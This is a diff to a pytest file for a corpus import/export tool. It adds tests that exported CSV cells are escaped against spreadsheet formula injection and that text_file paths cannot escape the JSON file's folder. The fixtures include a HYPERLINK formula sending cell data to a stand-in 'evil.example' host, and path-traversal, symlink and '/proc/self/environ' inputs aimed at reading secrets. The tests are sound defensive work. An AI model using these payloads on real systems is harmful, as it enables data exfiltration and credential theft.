@@ -1,8 +1,10 @@
 """Corpus import and export: round trips, idempotence, and every malformed input refused with nothing written."""
 
 import copy
+import csv
 import io
 import json
+import os
 from pathlib import Path
 
 import pytest
@@ -176,6 +178,59 @@ def test_it_round_trips_claims_through_csv(db, tmp_path):
         claim.delete()
     out, _ = _import(path)
     assert out == f"Imported {path}: 2 claims created, 3 assertions created.\n"
+    assert corpus.export_corpus() == first
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "+7% growth in trade",
+    "-2 warships left",
+    "@SUM(A1:A9)",
+    "\tindented line",
+    "'Tis the season",
+    "'=already marked",
+    "''twice",
+)
+
+
+def test_it_writes_cells_a_spreadsheet_would_run_as_formulas_inert_and_reads_them_back(db, tmp_path):
+    text = " ".join(f"{quote}." for quote in FORMULAS)
+    doc = {
+        "format": corpus.FORMAT,
+        "sources": [{"key": "-wire", "title": "Wire", "text": text}],
+        "topics": [{"slug": "-bases", "title": "Bases?"}],
+        "claims": [
+            {
+                "key": "-k",
+                "topic": "-bases",
+                "text": "=1+1",
+                "assertions": [{"source": "-wire", "stance": "supports", "quote": quote} for quote in FORMULAS],
+            }
+        ],
+    }
+    corpus.import_corpus(doc)
+    first = corpus.export_corpus()
+    path = tmp_path / "claims.csv"
+    call_command("export_corpus", "-o", str(path), stderr=io.StringIO())
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))[1:]
+    assert {tuple(row[:5]) for row in rows} == {("'-k", "'-bases", "'=1+1", "'-wire", "supports")}
+    assert sorted(row[5] for row in rows) == sorted(
+        [
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
+            "'+7% growth in trade",
+            "'-2 warships left",
+            "'@SUM(A1:A9)",
+            "'\tindented line",
+            "'Tis the season",  # an apostrophe before a letter is the text's own: left alone
+            "''=already marked",
+            "'''twice",
+        ]
+    )
+    for cell in (cell for row in rows for cell in row):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+    Claim.objects.get().delete()
+    _import(str(path))
     assert corpus.export_corpus() == first
 
 
@@ -455,6 +510,62 @@ def test_it_takes_text_files_beside_a_json_file_but_not_in_an_upload(db, tmp_pat
         "upload.json: sources[0] (key 'essay'): field 'text_file' cannot be used in an uploaded file; "
         "put the text in field 'text'"
     ]
+
+
+def test_it_reads_text_files_only_from_inside_the_folder_of_the_json_file(db, tmp_path):
+    folder = tmp_path / "corpus"
+    (folder / "texts").mkdir(parents=True)
+    (folder / "texts" / "essay.txt").write_text(ESSAY, encoding="utf-8")
+    secret = tmp_path / "secret.txt"
+    secret.write_text("DJANGO_SECRET_KEY=must-not-leak", encoding="utf-8")
+    (folder / "link.txt").symlink_to(secret)
+    (folder / "inner-link.txt").symlink_to(folder / "texts" / "essay.txt")
+    (folder / "linked-dir").symlink_to(tmp_path, target_is_directory=True)
+    os.mkfifo(folder / "fifo")
+    names = {
+        "environ": "/proc/self/environ",
+        "absolute": str(secret),
+        "dotdot": "../secret.txt",
+        "deep-dotdot": "texts/../../secret.txt",
+        "link": "link.txt",
+        "inner-link": "inner-link.txt",
+        "through-link": "linked-dir/secret.txt",
+        "fifo": "fifo",
+        "folder": "texts",
+        "itself": ".",
+    }
+    doc = {
+        "format": corpus.FORMAT,
+        "sources": [{"key": key, "title": key, "text_file": name} for key, name in names.items()],
+    }
+    path = _write_json(folder, doc)
+    here = folder.resolve()
+    problems = _refused(path)
+    assert problems == [
+        f"{path}: sources[0] (key 'environ'): field 'text_file': '/proc/self/environ' lies outside the folder "
+        f"of the corpus file ({here}); put the text file there",
+        f"{path}: sources[1] (key 'absolute'): field 'text_file': '{secret}' lies outside the folder "
+        f"of the corpus file ({here}); put the text file there",
+        f"{path}: sources[2] (key 'dotdot'): field 'text_file': '../secret.txt' lies outside the folder "
+        f"of the corpus file ({here}); put the text file there",
+        f"{path}: sources[3] (key 'deep-dotdot'): field 'text_file': 'texts/../../secret.txt' lies outside the folder "
+        f"of the corpus file ({here}); put the text file there",
+        f"{path}: sources[4] (key 'link'): field 'text_file': 'link.txt' goes through a symbolic link (link.txt); "
+        "copy the text file there instead",
+        f"{path}: sources[5] (key 'inner-link'): field 'text_file': 'inner-link.txt' goes through a symbolic link "
+        "(inner-link.txt); copy the text file there instead",
+        f"{path}: sources[6] (key 'through-link'): field 'text_file': 'linked-dir/secret.txt' goes through a "
+        "symbolic link (linked-dir); copy the text file there instead",
+        f"{path}: sources[7] (key 'fifo'): field 'text_file': 'fifo' is not a regular file",
+        f"{path}: sources[8] (key 'folder'): field 'text_file': 'texts' is not a regular file",
+        f"{path}: sources[9] (key 'itself'): field 'text_file': '.' lies outside the folder "
+        f"of the corpus file ({here}); put the text file there",
+    ]
+    assert not any("must-not-leak" in p for p in problems)
+    # A file in a folder below the JSON file's is beside it.
+    doc = {"format": corpus.FORMAT, "sources": [{"key": "e", "title": "E", "text_file": "texts/essay.txt"}]}
+    _import(_write_json(folder, doc))
+    assert Source.objects.get(key="e").text == ESSAY
 
 
 def test_it_rewrites_one_progress_line_on_a_terminal_at_most_ten_times_a_second(monkeypatch):
